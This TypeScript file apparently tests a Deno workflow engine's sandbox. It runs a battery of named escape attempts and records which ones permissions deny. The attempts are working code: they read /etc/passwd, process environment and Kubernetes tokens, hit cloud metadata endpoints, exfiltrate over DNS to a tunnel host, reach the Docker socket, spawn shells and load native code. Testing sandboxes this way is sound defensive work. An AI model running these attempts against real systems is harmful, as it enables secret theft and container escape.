/**
 * What a node tries against the permissions of the engine that runs it. Gives, by the name of each attack, what came of
 * it: `denied` by a permission, another error, or `reached` with what was reached. The table beside this file says what
 * must come of each.
 */

import type { Context } from "tentacular";
import { fork, spawn } from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns/promises";
import fs from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import inspector from "node:inspector";
import { createRequire } from "node:module";
import net from "node:net";
import os from "node:os";
import { DatabaseSync } from "node:sqlite";
import tls from "node:tls";
import vm from "node:vm";
import { Worker as Thread } from "node:worker_threads";

/** Where things are; the ports are of real servers, which anybody else reaches. */
interface Scene {
  /** Of the contract. */
  readonly host: string;
  readonly declared: number;
  /** Same host, not of the contract. */
  readonly undeclared: number;
  /** A host of the contract that no name server knows. */
  readonly name: string;
  /** Where the engine listens. */
  readonly own: number;
}

type Attack = (scene: Scene, ctx: Context) => unknown;

// deno-lint-ignore no-explicit-any
const anything = globalThis as any;
// deno-lint-ignore no-explicit-any
const deno = Deno as any;
const passwd = "/etc/passwd";
const elsewhere = ({ host, undeclared }: Scene) => `http://${host}:${undeclared}/`;
/** Each asks for a URL of its own: the engine ends a run that repeats what it was refused. */
const text = async (url: string, init?: RequestInit) => await (await fetch(url, init)).text();

/** The first of some events of an emitter of Node. */
function event(emitter: { once: unknown }, good: string): Promise<string> {
  // deno-lint-ignore no-explicit-any
  const it = emitter as any;
  return new Promise((resolve, reject) => {
    it.once(good, () => resolve(good));
    it.once("error", reject);
  });
}

/** What an `EventTarget` says first. */
function opened(target: EventTarget & { close(): void }): Promise<string> {
  return new Promise((resolve, reject) => {
    target.addEventListener("open", () => (target.close(), resolve("open")));
    target.addEventListener("error", (it) => {
      target.close();
      reject((it as ErrorEvent).error ?? new Error((it as ErrorEvent).message ?? "error"));
    });
  });
}

/** What code says that tries something in a worker of its own. */
function inWorker(code: string): Promise<string> {
  const source = `try { postMessage(String(await (async () => { ${code} })())); }` +
    " catch (error) { postMessage('!' + error.name); }";
  const url = `data:text/javascript,${encodeURIComponent(source)}`;
  const worker = new Worker(url, { type: "module" });
  return new Promise<string>((resolve, reject) => {
    worker.onmessage = ({ data }) => {
      if (String(data).startsWith("!")) reject(new Deno.errors.NotCapable(data));
      else resolve(data);
    };
    worker.onerror = (it) => (it.preventDefault(), reject(new Error(it.message)));
  }).finally(() => worker.terminate());
}

/** Imports what no bundler sees. */
function load(specifier: string, type?: string): Promise<unknown> {
  return type === undefined ? import(specifier) : import(specifier, { with: { type } });
}

const network: Record<string, Attack> = {
  "net-declared": async ({ host, declared }) =>
    (await fetch(`http://${host}:${declared}/`, { redirect: "manual" })).status,
  "net-name": () => text("http://kubernetes.default.svc/"),
  "net-port": (scene) => text(elsewhere(scene)),
  "net-integer-address": ({ host, undeclared }) => {
    const number = host.split(".").reduce((sum, part) => sum * 256 + Number(part), 0);
    return text(`http://${number}:${undeclared}/`);
  },
  "net-mapped-address": ({ host, undeclared }) => text(`http://[::ffff:${host}]:${undeclared}/`),
  "net-redirect": ({ host, declared }) => text(`http://${host}:${declared}/?redirect`),
  "net-dependency-redirect": async (_, ctx) => {
    const { fetch } = ctx.dependency("declared");
    return await (await fetch!("/")).text();
  },
  "net-websocket": ({ host, undeclared }) => opened(new WebSocket(`ws://${host}:${undeclared}/`)),
  "net-websocket-stream": ({ host, undeclared }) =>
    new anything.WebSocketStream(`ws://${host}:${undeclared}/`).opened,
  "net-event-source": (scene) => opened(new EventSource(elsewhere(scene))),
  "net-connect": ({ host, undeclared }) => Deno.connect({ hostname: host, port: undeclared }),
  "net-connect-tls": ({ host, undeclared }) =>
    Deno.connectTls({ hostname: host, port: undeclared }),
  "net-node": ({ host, undeclared }) => event(net.connect(undeclared, host), "connect"),
  "net-node-tls": ({ host, undeclared }) =>
    event(tls.connect(undeclared, host, { rejectUnauthorized: false }), "secureConnect"),
  "net-node-http": (scene) => event(http.get(elsewhere(scene)), "response"),
  "net-node-http2": (scene) => event(http2.connect(elsewhere(scene)), "connect"),
  "net-node-lookup": ({ name, declared }) =>
    event(
      net.connect({
        host: name,
        port: declared,
        lookup: (_, __, done) => done(null, [{ address: "127.0.0.1", family: 4 }]),
      }),
      "connect",
    ),
  "net-proxy": async ({ host, undeclared, declared }) => {
    using client = Deno.createHttpClient({ proxy: { url: `http://${host}:${undeclared}` } });
    return await text(`http://${host}:${declared}/?proxy`, { client } as RequestInit);
  },
  "net-proxy-tcp": async ({ host, undeclared, declared }) => {
    const proxy = { transport: "tcp", hostname: host, port: undeclared } as const;
    using client = Deno.createHttpClient({ proxy });
    return await text(`http://${host}:${declared}/?proxy-tcp`, { client } as RequestInit);
  },
  "net-proxy-unix": async ({ host, declared }) => {
    const proxy = { transport: "unix", path: "/var/run/docker.sock" } as const;
    using client = Deno.createHttpClient({ proxy });
    return await text(`http://${host}:${declared}/?proxy-unix`, { client } as RequestInit);
  },
  "net-quic": ({ host, undeclared }) =>
    deno.connectQuic({ hostname: host, port: undeclared, alpnProtocols: ["h3"] }),
  "net-quic-listen": () => new deno.QuicEndpoint({ hostname: "0.0.0.0", port: 0 }).addr.port,
  "net-webtransport": ({ host, undeclared }) =>
    new anything.WebTransport(`https://${host}:${undeclared}/`).ready,
  "net-metadata": () => text("http://169.254.169.254/latest/meta-data/"),
  "net-metadata-ipv6": () => text("http://[fd00:ec2::254]/latest/meta-data/"),
  "net-api-server": ({ host }) => text(`https://${host}:6443/version`),
  "net-own-run": ({ own }) => text(`http://0.0.0.0:${own}/run`, { method: "POST", body: "{}" }),
  "net-own-loopback": ({ own }) => text(`http://127.0.0.1:${own}/run`, { method: "POST" }),
  "net-own-localhost": ({ own }) => Deno.connect({ hostname: "localhost", port: own }),
  "net-fronting": async ({ host, declared }) => {
    using raw = await Deno.connect({ hostname: host, port: declared });
    return await raw.write(new TextEncoder().encode("GET / HTTP/1.1\r\nhost: other\r\n\r\n"));
  },
  "dns-resolve": () => Deno.resolveDns("c2VjcmV0.tunnel.example", "A"),
  "dns-own-server": ({ host, declared }) =>
    Deno.resolveDns("c2VjcmV0.tunnel.example", "TXT", {
      nameServer: { ipAddr: host, port: declared + 1 },
    }),
  "dns-lookup": () => dns.lookup("c2VjcmV0.tunnel.example"),
  "dns-node": () => dns.resolve4("c2VjcmV0.tunnel.example"),
  "dns-node-servers": ({ host }) => {
    const resolver = new dns.Resolver();
    resolver.setServers([host]);
    return resolver.resolveTxt("c2VjcmV0.tunnel.example");
  },
  "dns-by-connecting": () => Deno.connect({ hostname: "c2VjcmV0.tunnel.example", port: 443 }),
  "listen-tcp": () => Deno.listen({ hostname: "0.0.0.0", port: 9999 }).addr,
  "listen-any-port": () => Deno.listen({ port: 0 }).addr,
  "listen-serve": () => Deno.serve({ port: 9998, onListen() {} }, () => new Response()).addr,
  "listen-node": () => event(http.createServer().listen(9997), "listening"),
  "listen-beside-the-engine": ({ own }) =>
    Deno.listen({ hostname: "0.0.0.0", port: own, reusePort: true }).addr,
  "udp-listen": ({ own }) =>
    deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: own }).addr,
  "udp-send": async ({ host, declared }) => {
    const socket = deno.listenDatagram({ transport: "udp", hostname: "0.0.0.0", port: 0 });
    const to = { transport: "udp", hostname: host, port: declared };
    return await socket.send(new TextEncoder().encode("secret"), to);
  },
  "udp-node": ({ host, declared }) =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket("udp4").on("error", reject);
      socket.send(
        "secret",
        declared,
        host,
        (error, count) => error ? reject(error) : resolve(count),
      );
    }),
  "unix-docker": () => Deno.connect({ transport: "unix", path: "/var/run/docker.sock" }),
  "unix-listen": () => Deno.listen({ transport: "unix", path: "/tmp/own.sock" }).addr,
  "unix-node": () => event(net.connect("/var/run/docker.sock"), "connect"),
  "context-absolute": async (scene, ctx) =>
    await (await ctx.dependency("declared").fetch!(elsewhere(scene))).text(),
  "context-slashes": async ({ host, undeclared }, ctx) =>
    await (await ctx.dependency("declared").fetch!(`//${host}:${undeclared}/`)).text(),
  "context-fetch": async (scene, ctx) =>
    await (await ctx.fetch("declared", `${elsewhere(scene)}?context`)).text(),
  "context-undeclared": (_, ctx) => ctx.dependency("undeclared").host,
};

const files: Record<string, Attack> = {
  "read-passwd": () => Deno.readTextFile(passwd),
  "read-url": () => text(`file://${passwd}`),
  "read-dots": () => Deno.readTextFile(new URL(`../../../..${passwd}`, import.meta.url)),
  "read-encoded-dots": () =>
    Deno.readTextFile(new URL(`%2e%2e/%2e%2e/%2e%2e/%2e%2e${passwd}`, import.meta.url)),
  "read-node": () => fs.readFileSync(passwd, "utf8"),
  "read-require": () => createRequire(import.meta.url)("/proc/self/status.json"),
  "read-import-text": () => load(`file://${passwd}`, "text"),
  "read-import-json": () => load("file:///proc/self/limits", "json"),
  "read-import-bytes": () => load(`file://${passwd}`, "bytes"),
  "read-environ": () => Deno.readTextFile("/proc/self/environ"),
  "read-cmdline": () => Deno.readTextFile("/proc/1/cmdline"),
  "read-memory": () => Deno.open("/proc/self/mem"),
  "read-root-of-1": () => Deno.readTextFile(`/proc/1/root${passwd}`),
  "read-descriptors": () => Array.from(Deno.readDirSync("/proc/self/fd")),
  "read-directory": () => Array.from(Deno.readDirSync("/")).length,
  "read-secrets": () => Array.from(Deno.readDirSync("/app/secrets")).length,
  "read-secret": () => Deno.readTextFileSync("/app/secrets/vault"),
  "read-device": () => Deno.open("/dev/mem"),
  "stat-passwd": () => Deno.stat(passwd),
  "watch-etc": () => Deno.watchFs("/etc"),
  "token": () => Deno.readTextFile("/var/run/secrets/kubernetes.io/serviceaccount/token"),
  "link-and-read": () => {
    Deno.symlinkSync(passwd, "/tmp/fortress-link");
    return Deno.readTextFileSync("/tmp/fortress-link");
  },
  "hard-link": () => Deno.link(passwd, "/tmp/fortress-hard-link"),
  "copy-out": () => Deno.copyFile(passwd, "/tmp/fortress-copy"),
  "copy-in": () => {
    Deno.writeTextFileSync("/tmp/fortress-new", "x");
    Deno.copyFileSync("/tmp/fortress-new", "/app/workflow/new");
  },
  "rename-out": () => {
    Deno.writeTextFileSync("/tmp/fortress-old", "x");
    Deno.renameSync("/tmp/fortress-old", "/app/engine/main.ts");
  },
  "write-code": () => Deno.writeTextFile(new URL("planted.ts", import.meta.url), ""),
  "write-engine": () => Deno.writeTextFile("/app/engine/main.ts", ""),
  "write-etc": () => Deno.writeTextFile("/etc/fortress", ""),
  "write-dots": () => Deno.writeTextFile("/tmp/../etc/fortress", ""),
  "write-shared-memory": () => Deno.writeTextFile("/dev/shm/fortress", ""),
  "write-node": () => fs.writeFileSync("/etc/fortress", ""),
  "write-storage": () => localStorage.setItem("key", "value"),
  "write-cache": async () => {
    const cache = await caches.open("fortress");
    await cache.put("http://x/", new Response("value"));
  },
  "sqlite-file": () => new DatabaseSync("/etc/fortress.db").exec("create table x (y)"),
  "sqlite-attach": () =>
    new DatabaseSync(":memory:").exec("attach '/etc/fortress.db' as x; create table x.t (y)"),
  "sqlite-extension": () =>
    new DatabaseSync(":memory:", { allowExtension: true }).loadExtension("/tmp/extension.so"),
};

const processes: Record<string, Attack> = {
  "run-command": () => new Deno.Command("/bin/sh", { args: ["-c", "id"] }).outputSync().stdout,
  "run-deno": () => new Deno.Command("deno", { args: ["eval", "1"] }).outputSync().code,
  "run-node": () => event(spawn("id"), "spawn"),
  "run-fork": () => event(fork("/tmp/fortress.js"), "spawn"),
  "run-script": () => {
    Deno.writeTextFileSync("/tmp/fortress.sh", "#!/bin/sh\nid\n", { mode: 0o755 });
    return new Deno.Command("/tmp/fortress.sh").outputSync().stdout;
  },
  "kill-parent": () => Deno.kill(Deno.ppid, "SIGTERM"),
  "kill-init": () => Deno.kill(1, "SIGCONT"),
  "ffi-libc": () => Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } }),
  "ffi-node": () => createRequire(import.meta.url)("/tmp/addon.node"),
  "ffi-process": () => anything.process.dlopen({ exports: {} }, "/tmp/addon.node"),
  "ffi-raw-op": () => deno[deno.internal].core.ops.op_ffi_ptr_create(4096n),
  "env-path": () => Deno.env.get("PATH") ?? "nothing",
  "env-all": () => Object.keys(Deno.env.toObject()).filter((it) => !/^(HOME|DENO_DIR)$/.test(it)),
  "env-node": () => Object.keys(anything.process.env).filter((it) => !/^(HOME|DENO_DIR)$/.test(it)),
  "sys-hostname": () => Deno.hostname(),
  "sys-node-hostname": () => os.hostname(),
  "sys-interfaces": () => Deno.networkInterfaces(),
  "sys-release": () => Deno.osRelease(),
  "sys-user": () => os.userInfo().username,
  "sys-uid": () => Deno.uid(),
  "sys-memory": () => Deno.systemMemoryInfo(),
  "ask-permission": async () => (await Deno.permissions.request({ name: "read" })).state,
  "ask-net": async () => (await Deno.permissions.request({ name: "net" })).state,
  "ask-person": () => prompt("password?") ?? "nothing",
  "worker-read": () => inWorker(`return Deno.readTextFileSync("${passwd}")`),
  "worker-net": (scene) => inWorker(`return await (await fetch("${elsewhere(scene)}")).text()`),
  "worker-secrets": () => inWorker('return Deno.readTextFileSync("/app/secrets/vault")'),
  "thread-read": () => {
    const code = `require("node:fs").readFileSync("${passwd}")`;
    return event(new Thread(code, { eval: true }), "exit");
  },
  "import-https": () => load(["https:", "", "esm.sh", "ms"].join("/")),
  "import-http": (scene) => load(`${elsewhere(scene)}x.ts`),
  "import-npm": () => load(["npm", "ms"].join(":")),
  "import-jsr": () => load(["jsr", "@std/assert"].join(":")),
  "import-data": () =>
    load(`data:text/javascript,export default Deno.readTextFileSync("${passwd}")`),
  "eval-read": () => (0, eval)(`Deno.readTextFileSync("${passwd}")`),
  "vm-read": () => vm.runInThisContext(`Deno.readTextFileSync("${passwd}")`),
  "wasm": async () => {
    const bytes = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0);
    return Object.keys((await WebAssembly.instantiate(bytes)).instance.exports);
  },
  "inspector": () => inspector.open(9229, "0.0.0.0"),
  "end-deno": () => Deno.exit(0),
  "end-node": () => anything.process.exit(0),
  "end-close": () => anything.close(),
};

/** Milliseconds after which an attack has come to nothing. */
const PATIENCE = 3_000;

async function outcome(attack: () => unknown): Promise<string> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const late = new Promise((_, reject) => {
    timer = setTimeout(() => reject(new Error("came to nothing")), PATIENCE);
  });
  try {
    return `reached ${shown(await Promise.race([attack(), late]))}`;
  } catch (error) {
    return failure(error);
  } finally {
    clearTimeout(timer);
  }
}

function shown(value: unknown): string {
  if (value instanceof Uint8Array) return new TextDecoder().decode(value).slice(0, 80);
  return (typeof value === "string" ? value : JSON.stringify(value) ?? "nothing").slice(0, 80);
}

/** `denied` for what a permission stands against, however it is wrapped. */
function failure(error: unknown): string {
  for (let it = error; it instanceof Error; it = it.cause) {
    const { code } = it as { code?: unknown };
    const denied = ["NotCapable", "PermissionDenied"].includes(it.name) ||
      ["EPERM", "EACCES", "ERR_ACCESS_DENIED"].includes(String(code)) ||
      /NotCapable|Requires .* access|EPERM|EACCES/.test(it.message);
    if (denied) return "denied";
  }
  return error instanceof Error ? `${error.name}: ${error.message}`.slice(0, 160) : String(error);
}

export default async function run(ctx: Context, input: unknown): Promise<Record<string, string>> {
  const scene = input as Scene;
  const found: Record<string, string> = {};
  // One after the other: together they take more memory than a pod has.
  for (const [name, attack] of Object.entries({ ...network, ...files, ...processes })) {
    found[name] = await outcome(() => attack(scene, ctx));
  }
  return found;
}
